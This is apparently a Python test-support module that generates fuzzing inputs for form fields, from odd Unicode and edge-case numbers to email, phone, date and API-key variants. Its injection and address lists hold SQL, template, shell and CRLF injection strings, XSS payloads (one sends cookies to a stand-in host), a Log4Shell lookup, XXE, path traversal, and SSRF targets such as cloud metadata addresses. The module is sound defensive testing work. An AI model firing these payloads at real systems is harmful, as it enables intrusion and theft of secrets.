"""What careless and hostile senders write into a field, by class: made here from small parts, in a fixed order.

`TEXTS` go into any field that takes text; the functions below them are for fields of one kind. Whole requests are in
`tests.support.bodies`.
"""

# Look-alikes of letters and digits are the point of this module, and a row of words is read faster than a list.
# ruff: noqa: RUF001, SIM905

from __future__ import annotations

import itertools
import unicodedata
from collections.abc import Iterator, Sequence
from typing import Any, TypeVar

Item = TypeVar("Item")


def sample(items: Sequence[Item], most: int) -> list[Item]:
    """At most `most` of `items`, spread evenly over them, so that each class is there."""
    stride = max(1, -(-len(items) // most))
    return list(items[::stride])


# Classes of text


def controls() -> Iterator[str]:
    """Every control character but NUL (JSON with it is refused as a whole), and what ends a line somewhere."""
    for code in [*range(0x01, 0x20), *range(0x7F, 0xA0), 0x2028, 0x2029]:
        yield f"a{chr(code)}b"
    yield from ("\r\n\r\n", "\n", "\t\t", "\x1b[2J\x1b[31mred", "line\nINFO all is well", "\x08\x08\x08", "\x7f" * 300)


def invisible() -> Iterator[str]:
    """Characters without a shape: joiners, marks of direction, byte order marks, non-characters, private use."""
    codes = [0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x180E, 0x3164, 0xFEFF, 0xFFA0, *range(0xFFFC, 0x10000)]
    codes += [*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070), *range(0xFE00, 0xFE10)]
    codes += [0xE000, 0xF8FF, 0xFDD0, 0xFDEF, 0x1FFFE, 0x10FFFF, 0xE0001, 0xE0020, 0xE007F, 0xF0000]
    for code in codes:
        yield f"x{chr(code)}y"
        yield chr(code)
    yield "\u202egnp.exe" + "\u2066\u200f" * 20
    yield " \u00a0\u1680\u2000\u3000\u202f\u205f "


def scripts() -> Iterator[str]:
    """Writing that is longer, wider or higher than Latin, and letters that change when their case does."""
    yield from "田中さん パーティー 찦차를 ท่ัี مرحبا שלום नमस्ते ѐЀ İstanbul ıI ßẞ ŉ ΐ ﬀ ǆ Å Å Ω 𐐷 X\u00c6A-12".split()
    yield from "１２３ ١٢٣ ४२ Ⅷ ½ ² 𝟘 𝕋𝕙𝕖 ⓣⓗⓔ 🄰 Ｆｕｌｌ 👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸🇷🇺 👍🏿 ❤️ 1️⃣".split()
    yield "🙈" * 200
    yield "e" + "\u0301" * 10_000
    yield "".join(f"{letter}{chr(0x300 + number % 0x70) * 9}" for number, letter in enumerate("he comes"))
    for word in ("é", "한글", "ﬁ", "Å", "ǭ"):
        yield from (unicodedata.normalize("NFC", word), unicodedata.normalize("NFD", word))
        yield from (unicodedata.normalize("NFKC", word), unicodedata.normalize("NFKD", word))


def injections() -> Iterator[str]:
    """What means something to a database, a shell, a template, a page, a spreadsheet, a log or a path."""
    tails = ("", " OR 1=1 --", "; DROP TABLE x; --", ")")
    yield from (f"x{quote}{tail}" for quote in ("'", '"', "`", "\\", "''", '\\"') for tail in tails)
    for word in ("7*7", "request.user.password", "0.__class__.__mro__", "settings.SECRET_KEY"):
        for around in ("{{%}}", "{%%%}", "${%}", "{%}", "#{%}", "<%=%%>", "%(%)s"):
            yield around.replace("%", word, 1)
    for script in ("alert(1)", "location='//x.example/'+document.cookie"):
        for around in (
            '<script>~</script> "><img/src=x/onerror="~"> javascript:~ \'-~-\' <svg/onload=~> </textarea><script>~// '
            "&lt;~&gt; <!--~ data:text/html,<script>~</script>"
        ).split():
            yield around.replace("~", script)
    for start in ("=", "+", "-", "@", "\t=", "\r=", "＝"):
        yield from (f"{start}1+1", f"{start}cmd|' /C calc'!A0", f'{start}HYPERLINK("http://x.example")')
    yield from (
        "; ls -la",
        "| cat /etc/passwd",
        "$(touch x)",
        "& ping x",
        "\n/bin/sh",
        "*)(uid=*",
        "\\N{BULLET}",
        "')})",
    )
    yield from "`id` --help -rf %0d%0aSet-Cookie:a=b ../../../etc/passwd ..\\..\\windows /dev/null C:\\CON nul %2e%2e%2f".split()
    yield from "a/b ? # * _ % %% %s%s%s%n %x%x%x%x %d {} {0} \\x00 \\u0000 \\0 &#0; %00 [hidden] ]]> --> */ \\r\\n".split()
    yield from ("${jndi:ldap://x.example/a}", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///'>]>")
    yield from ('{"event": "forged", "level": "info"}', "2026-01-01 [info] forged")


def words() -> Iterator[str]:
    """Words that some language takes for nothing, for yes, or for a number; names and addresses that look broken."""
    yield from ("", " ", "  \t ", "9" * 400, "https://x.example/" + "a" * 3000, "d'Arc, Jr.", "McDonald & Söhne")
    yield from "null NULL None nil undefined (null) true false True yes NaN nan Infinity -inf 0 -0 00 -1 1e5".split()
    yield from "1E+1000000 0x10 0b1 1_000 1,000.5 1.2.3 constructor __proto__ toString self class id pk __dict__".split()
    yield from "Null Test O'Brien Jean-Luc Nguyễn null@null.com http:// //x.example ftp://x https://a:b@x.example".split()
    yield from "file:///etc/passwd https://[::1]/ http://169.254.169.254/ https://x.example\\@y.example".split()


def long_texts() -> Iterator[str]:
    """One too few, just enough and one too many of each length that a column or a destination has, and of wide letters."""
    for limit in (2, 3, 20, 40, 60, 64, 76, 80, 100, 120, 127, 160, 254, 255, 300, 500, 512, 1_000, 1_024, 4_096):
        yield from ("x" * (limit - 1), "x" * limit, "x" * (limit + 1))
    yield from ("é" * 256, "字" * 300, "🙂" * 300, "a b" * 200, " " * 400 + "x", "x" + " " * 400, "x" * 32_768)
    yield "字" * 34_000


TEXTS = list(dict.fromkeys(itertools.chain(controls(), invisible(), scripts(), injections(), words(), long_texts())))
"""Texts that JSON can carry and a field may get."""

UNSTORABLE = ["\x00", "a\x00b", "\x00" * 300, "\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "x\udce9"]
"""What no database and no UTF-8 can hold: NUL and lone surrogates."""


# Values of one kind


def emails() -> list[str]:
    """Addresses that are none, that nobody could mail, or that look like another."""
    hosts = ["", *"x.com X.COM localhost x [127.0.0.1] x.com. .x.com x..com -x.com münchen.de x.c".split()]
    found = [f"{local}@{host}" for local in ("", "a", "a" * 64, "a" * 65) for host in [*hosts, "a" * 250 + ".com"]]
    found += [f"{local}@x.com" for local in 'a.b .a a. a..b a%b a+tag "ab" jörg a,b <a> \' a;b a\\b a＠b'.split()]
    found += ["a b@x.com", "a\nb@x.com", "@", "a@@x.com", "a@x.com@y.com", "a@x.com, b@y.com", "mailto:a@x.com"]
    return [*dict.fromkeys(found), "a@x.com\r\nBcc: c@z.com", "A <a@x.com>", "a＠x.com", "аnn@x.com"]


def private_keys() -> list[str]:
    """What is pasted where a private key of Klaviyo belongs and cannot be one, but for blanks around it."""
    key, found = (
        "pk_canary_0123456789abcdef",
        ["pk_", "pk-", "PK_ABC", "AbC123", "sk_live_0123456789", "Klaviyo-API-Key"],
    )
    inside = ["\n", "\r", "\r\n", "\r\nX-Injected: 1\r\n", "\n\n", "\t", " ", "\x00", "\x01", "\x0b", "\x1b[0m", "\x7f"]
    inside += [
        "\x85",
        "\xa0",
        "\xad",
        "\u200b",
        "\u2028",
        "\u202e",
        "\u2060",
        "\u3000",
        "\ufeff",
        "\ud800",
        "–",
        "—",
        "‐",
    ]
    inside += [
        "−",
        "＿",
        "é",
        "ａ",
        "１",
        "а",
        "🙂",
        "'",
        '"',
        "\\",
        "/",
        ":",
        ";",
        ",",
        "%",
        "%0d%0a",
        "&",
        "=",
        "+",
        "<b>",
        "{}",
    ]
    inside += [".", "*", "…", "@"]
    found += [key[:12] + each + key[12:] for each in inside]
    found += [
        "–" + key,
        "＂" + key,
        f"'{key}'",
        f'"{key}"',
        f"<{key}>",
        f"Klaviyo-API-Key {key}",
        f"Bearer {key}",
        f"{key},{key}",
    ]
    found += [
        f"{key}\n{key}",
        f"KLAVIYO_KEY={key}",
        f"env:{key}",
        f"https://{key}@a.klaviyo.com",
        key.replace("_", "-"),
    ]
    found += [
        key.replace("_", "＿"),
        key.upper(),
        key[3:],
        key.translate({code: code + 0xFEE0 for code in range(0x21, 0x7F)}),
    ]
    found += [
        "pk_" + "a" * 251,
        "pk_" + "a" * 4_096,
        "pk_" + "ａ" * 30,
        "-" * 40,
        "•" * 32,
        "pk_***",
        "null",
        "{{ key }}",
    ]
    return list(dict.fromkeys(found))


def addresses() -> list[str]:
    """Addresses of HTTP that lead inside, elsewhere than they seem to, or nowhere; none names a host by its plain name."""
    inside = (
        "169.254.169.254 10.0.0.1 192.168.0.1 172.16.0.1 0.0.0.0 0 100.100.100.200 224.0.0.1 255.255.255.255".split()
    )
    inside += "2130706433 0x7f000001 017700000001 0177.0.0.1 0x7f.0.0.1 127.1 127.0.1 1.1 4294967296".split()
    inside += ["127.0.0.1.", "127.0.0.01"]
    inside += (
        "[::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::ffff:169.254.169.254] [fe80::1] [fd00::1] [64:ff9b::7f00:1]".split()
    )
    inside += "[::1%25lo] [::1%lo] [0:0:0:0:0:0:0:1] [::1 ::1 [127.0.0.1] １２７.0.0.1 127。0。0。1 ①②⑦.0.0.1".split()
    found = [f"{scheme}://{host}" for host in inside for scheme in ("https", "http")]
    found += ["http://a.klaviyo.com", "http://localhost.", "http://localhost.example", "http://LOCALHOST.evil.example"]
    found += ["http://127.0.0.1.nip.io", "http://127.0.0.1@x.example", "http://localhost@x.example", "//a.klaviyo.com"]
    after = (
        "@x.example :pw@x.example \\@x.example #@x.example ?@x.example /.. /../x /./x /x/../.. /%2e%2e /x//y".split()
    )
    after += ["//x", "?a=b", "#b"]
    after += [
        "?",
        "#",
        ";a",
        ":",
        ":0",
        ":65536",
        ":99999",
        ":-1",
        ":٤٤٣",
        ":443:443",
        ":8o",
        "/x y",
        "/ü",
        "/x%0d%0aA:b",
        "/x\\y",
    ]
    after += [
        "\n",
        "\r\nX-A: b",
        "\t",
        " ",
        "\x00",
        "/\x00",
        "\x7f",
        "\u2028",
        "..",
        "/…",
        "%00",
        "%2f",
        "\ud800",
        ",https://x.example",
    ]
    found += [f"https://a.klaviyo.com{each}" for each in after]
    found += [
        f"{scheme}://a.klaviyo.com"
        for scheme in ("ftp", "file", "gopher", "ws", "javascript", "HTTPS ", " https", "httpss")
    ]
    found += [
        "https://",
        "https:",
        "https:a.klaviyo.com",
        "https:/a.klaviyo.com",
        "https:///a.klaviyo.com",
        "https://:443",
    ]
    found += [
        "https://.",
        "https://..",
        "https://-a.example",
        "https://a-.example",
        "https://a..example",
        "https://.a.example",
    ]
    found += [
        "https://ａ.klaviyo.com",
        "https://аpi.klaviyo.com",
        "https://a\u200b.klaviyo.com",
        "https://a klaviyo.com",
    ]
    found += ["https://a_b.example", "https://*.klaviyo.com", "file:///etc/passwd", "a.klaviyo.com", "x", "\\\\x\\y"]
    return list(dict.fromkeys(found))


def phones() -> list[str]:
    """Numbers with and without prefix, too short, too long, with letters and in other digits."""
    forms = ("{}", "+{}", "00{}", "+{} ext. 5", "({}", "tel:{}", "+{};ext=3", "++{}", "+ {}", "{}x")
    digits = ("12125550199", "1", "441632960961", "1" * 16, "9" * 40, "0", "1-800-FLOWERS", "١٢١٢٥٥٥٠١٩٩")
    return [form.format(number) for form, number in itertools.product(forms, digits)]


def moments() -> list[Any]:
    """Instants at the ends of calendars, in every notation, and what is no instant."""
    days = (
        "0000-01-01 0001-01-01 1582-10-10 1900-02-29 1969-12-31 1970-01-01 2026-02-30 2199-12-31 2200-01-01 9999-12-31"
    )
    clocks = [
        "",
        *"T00:00:00Z T23:59:60Z T24:00:00Z T25:00:00Z T23:59:59-14:00 T00:00:00+14:00 T00:00:00+99:00".split(),
    ]
    gaps = "2026-03-29T02:30:00 2026-10-25T02:30:00+02:00 2026-10-25T02:30:00+01:00 2026-03-08T02:30:00-05:00".split()
    others = (
        "now yesterday 20261120 2026-W47-5 2026-324 11/20/2026 １９７０-01-01 2026-1-1 1795000000 1795000000000".split()
    )
    numbers = [0, -1, 1_795_000_000, 1_795_000_000_000, 1e18, True, "Fri, 20 Nov 2026 10:00:00 GMT", "2026-11-20 10:00"]
    return [f"{day}{clock}" for day in days.split() for clock in clocks] + gaps + others + numbers


def amounts() -> list[Any]:
    """Money with too many digits, in other notations, or not finite."""
    written = "-0.01 0 0.00 1.005 0.00005 1e-10 1e-99 1E+10 1e11 99999999999.99999 99999999999.9999999999 -99999999999"
    odd = "1,234.50 1.234,50 €5 NaN sNaN Infinity 1_0 ١٢ 0x1F 1e1000000 .5 5. +5 --5 1/3"
    others: list[Any] = [None, True, 0, -1, 5, 2**63 - 1, 0.1 + 0.2, 1e22, 1e-300, [], {}, ["5"], {"amount": "5"}]
    return [*written.split(), *odd.split(), "", "5 EUR", "9" * 30, *others]


def numbers() -> list[Any]:
    """Whole numbers at the ends of what machines hold, and what is no whole number."""
    ends = [sign * 2**bits + step for bits in (7, 8, 15, 16, 31, 32, 53, 62) for sign in (1, -1) for step in (-1, 0, 1)]
    others: list[Any] = [2**63 - 1, -(2**63), 0, -0.0, 1.0, 1.5, 1e15, 1e18, True, False, None, [], [1], {}]
    return [*ends, *others, "1", "-1", "01", "１", "1.0", "1e3", " 7 ", "9" * 19, "9" * 20]
